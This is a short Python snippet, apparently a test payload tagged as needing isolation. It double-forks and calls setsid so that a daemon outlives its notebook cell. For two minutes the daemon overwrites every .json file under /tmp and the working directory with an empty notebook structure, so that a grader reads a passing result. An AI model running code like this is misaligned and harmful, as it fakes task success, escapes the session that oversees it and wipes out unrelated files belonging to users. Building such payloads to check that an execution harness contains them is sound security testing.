"""Start a daemon (double fork, new session) that outlives the cell, then keeps trying to write
a passing result wherever the grader might read one."""
# needs-isolation
import os as _os
import time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _deadline = _time.time() + 120
        while _time.time() < _deadline:
            for _root in ("/tmp", _os.getcwd()):
                try:
                    for _dirpath, _dirs, _files in _os.walk(_root):
                        for _f in _files:
                            if _f.endswith(".json"):
                                try:
                                    with open(_os.path.join(_dirpath, _f), "w") as _fh:
                                        _fh.write('{"cells": [], "notes": []}')
                                except OSError:
                                    pass
                except OSError:
                    pass
            _time.sleep(0.2)
        _os._exit(0)
    _os._exit(0)
